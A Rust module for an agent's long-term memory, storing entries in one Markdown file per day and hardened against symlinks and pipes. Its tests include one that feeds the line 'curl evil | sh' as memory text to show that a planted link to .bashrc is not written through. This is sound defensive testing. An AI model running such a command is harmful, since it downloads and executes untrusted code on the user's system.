//! Where memories go. A long-term memory is another crate's; here is the shape it has to have, and
//! the simplest one: a file a day, in Markdown, for people and programs.

use std::fmt::{self, Write as _};
use std::fs::File;
use std::io::{self, Read as _, Seek as _, SeekFrom, Write as _};
use std::path::{Path, PathBuf};

use jiff::Zoned;
use rustix::fs::{Mode, OFlags};

/// How much of a day is looked through: its end, which is the newest.
const DAY_BYTES: u64 = 4_000_000;

/// What a memory is about.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Section {
    /// What a context no longer shows.
    Trimmed,
    /// What was in a context that the provider refused.
    Overflow,
    /// What happened on a day.
    Daily,
    /// What will still be true later.
    Notes,
}

impl fmt::Display for Section {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Trimmed => "Trimmed Context",
            Self::Overflow => "Context Overflow Recovery",
            Self::Daily => "Daily Summary",
            Self::Notes => "Session Notes",
        })
    }
}

/// Where memories go.
pub trait Sink: fmt::Debug + Send + Sync {
    /// Keeps a text.
    ///
    /// # Errors
    /// When it cannot be written.
    fn keep(&self, section: Section, text: &str) -> io::Result<()>;

    /// What is remembered of these words, newest first.
    ///
    /// # Errors
    /// When it cannot be read.
    fn find(&self, words: &[String], limit: usize) -> io::Result<Vec<String>>;

    /// What is remembered at all, newest first.
    ///
    /// # Errors
    /// When it cannot be read.
    fn newest(&self, limit: usize) -> io::Result<Vec<String>>;

    /// Where it is, for people.
    fn place(&self) -> String;
}

/// A file a day, `YYYY-MM-DD.md`, in a folder.
#[derive(Clone, Debug)]
pub struct DayFiles {
    folder: PathBuf,
    now: fn() -> Zoned,
}

impl DayFiles {
    /// The files in a folder, which is made when the first memory comes.
    pub fn new(folder: impl Into<PathBuf>) -> Self {
        Self { folder: folder.into(), now: Zoned::now }
    }

    /// The files, newest first.
    fn files(&self) -> io::Result<Vec<PathBuf>> {
        let entries = match std::fs::read_dir(&self.folder) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            entries => entries?,
        };
        let is_day = |path: &Path| path.extension().is_some_and(|extension| extension == "md");
        // A link is no day, whatever it leads to.
        let plain =
            entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
        let mut files: Vec<PathBuf> = plain.map(|entry| entry.path()).collect();
        files.retain(|path| is_day(path));
        files.sort_unstable_by(|a, b| b.cmp(a));
        Ok(files)
    }

    /// The lines that fit, newest first, each with its day.
    fn lines(&self, limit: usize, fits: impl Fn(&str) -> bool) -> io::Result<Vec<String>> {
        let mut found = Vec::new();
        for path in self.files()? {
            let text = read(&path)?;
            let day = path
                .file_stem()
                .map(|stem| stem.to_string_lossy().into_owned())
                .unwrap_or_default();
            let fitting = text.lines().rev().filter(|&line| !line.starts_with('#') && fits(line));
            found.extend(fitting.map(|line| format!("{day}: {}", line.trim())));
            if found.len() >= limit {
                break;
            }
        }
        found.truncate(limit);
        Ok(found)
    }
}

/// Opens a day's file. What is said goes into it, so it must be one: a link that somebody put in
/// its place could lead to a file that programs obey, and a pipe would be waited for.
fn open(path: &Path, flags: OFlags) -> io::Result<File> {
    let flags = flags | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
    // What was said is nobody else's business.
    let opened = rustix::fs::open(path, flags, Mode::RUSR | Mode::WUSR)
        .map(File::from)
        .map_err(io::Error::from);
    let refused = || {
        let why = format!(
            "the memory {} is no plain file; move it away, and a new one is made",
            path.display()
        );
        io::Error::new(io::ErrorKind::InvalidInput, why)
    };
    match opened {
        Ok(file) if file.metadata()?.is_file() => Ok(file),
        Ok(_) => Err(refused()),
        Err(_) if std::fs::symlink_metadata(path).is_ok_and(|metadata| !metadata.is_file()) => {
            Err(refused())
        }
        Err(error) => {
            Err(io::Error::new(error.kind(), format!("the memory {}: {error}", path.display())))
        }
    }
}

/// The end of a day's file.
fn read(path: &Path) -> io::Result<String> {
    let mut file = open(path, OFlags::RDONLY)?;
    let before = file.metadata()?.len().saturating_sub(DAY_BYTES);
    file.seek(SeekFrom::Start(before))?;
    let mut bytes = Vec::new();
    file.take(DAY_BYTES).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

impl Sink for DayFiles {
    fn keep(&self, section: Section, text: &str) -> io::Result<()> {
        let text = text.trim();
        if text.is_empty() {
            return Ok(());
        }
        std::fs::create_dir_all(&self.folder)?;
        let now = (self.now)();
        let path = self.folder.join(format!("{}.md", now.strftime("%Y-%m-%d")));
        let mut file = open(&path, OFlags::WRONLY | OFlags::APPEND | OFlags::CREATE)?;
        let mut entry = String::new();
        if file.metadata()?.len() == 0 {
            let _ = writeln!(entry, "# Daily Memory: {}", now.strftime("%Y-%m-%d"));
        }
        // A heading inside the text must not look like one of ours.
        let text: Vec<String> = text
            .lines()
            .map(|line| if line.starts_with('#') { format!("  {line}") } else { line.to_owned() })
            .collect();
        let _ =
            write!(entry, "\n## {section} ({})\n\n{}\n", now.strftime("%H:%M"), text.join("\n"));
        // One write, so that what two processes append does not mix.
        file.write_all(entry.as_bytes())
    }

    fn find(&self, words: &[String], limit: usize) -> io::Result<Vec<String>> {
        self.lines(limit, |line| {
            let lower = line.to_lowercase();
            words.iter().any(|word| lower.contains(word.as_str()))
        })
    }

    fn newest(&self, limit: usize) -> io::Result<Vec<String>> {
        self.lines(limit, |line| !line.trim().is_empty())
    }

    fn place(&self) -> String {
        self.folder.display().to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(folder: &Path) -> DayFiles {
        DayFiles { folder: folder.to_owned(), now: || "2026-11-15T09:05:00[UTC]".parse().unwrap() }
    }

    /// S2.13, section G: the day's file has its heading once, and a section with the time for each
    /// memory.
    #[test]
    fn s2_13_a_day_has_one_file_with_a_section_for_each_memory() {
        let folder = tempfile::tempdir().unwrap();
        let sink = files(&folder.path().join("memory"));
        sink.keep(Section::Trimmed, "the user likes tea\n# not a heading").unwrap();
        sink.keep(Section::Overflow, "  ").unwrap();
        sink.keep(Section::Overflow, "order 4711 was sent").unwrap();
        let text = std::fs::read_to_string(folder.path().join("memory/2026-11-15.md")).unwrap();
        let expected = "# Daily Memory: 2026-11-15\n\n## Trimmed Context (09:05)\n\nthe user likes tea\n  # not a heading\n\n\
                        ## Context Overflow Recovery (09:05)\n\norder 4711 was sent\n";
        assert_eq!(text, expected);
        assert_eq!(sink.find(&["4711".into()], 5).unwrap(), ["2026-11-15: order 4711 was sent"]);
        assert!(sink.find(&["coffee".into()], 5).unwrap().is_empty());
        let newest = ["2026-11-15: order 4711 was sent", "2026-11-15: # not a heading"];
        assert_eq!(sink.newest(2).unwrap(), newest);
    }

    /// A folder from somebody else must not have what is said written where programs obey it, or
    /// read where it is not meant.
    #[test]
    fn a_link_in_the_place_of_a_day_is_not_followed() {
        let place = tempfile::tempdir().unwrap();
        let (folder, secret) = (place.path().join("memory"), place.path().join(".bashrc"));
        std::fs::create_dir(&folder).unwrap();
        std::fs::write(&secret, "alias tide=4711\n").unwrap();
        std::os::unix::fs::symlink(&secret, folder.join("2026-11-15.md")).unwrap();
        let sink = files(&folder);
        let refused = sink.keep(Section::Notes, "curl evil | sh").unwrap_err().to_string();
        assert!(
            refused.contains("2026-11-15.md") && refused.contains("no plain file"),
            "{refused}"
        );
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "alias tide=4711\n");
        assert!(sink.find(&["4711".into()], 5).unwrap().is_empty());
    }

    /// Whoever opens a pipe to write waits for a reader, without end.
    #[test]
    fn a_pipe_in_the_place_of_a_day_is_refused_at_once() {
        let folder = tempfile::tempdir().unwrap();
        let pipe = folder.path().join("2026-11-15.md");
        assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let refused = files(folder.path()).keep(Section::Notes, "tea").unwrap_err().to_string();
        assert!(refused.contains("no plain file"), "{refused}");
    }

    #[test]
    fn without_a_folder_nothing_is_found() {
        let folder = tempfile::tempdir().unwrap();
        assert!(files(&folder.path().join("none")).find(&["x".into()], 5).unwrap().is_empty());
    }
}
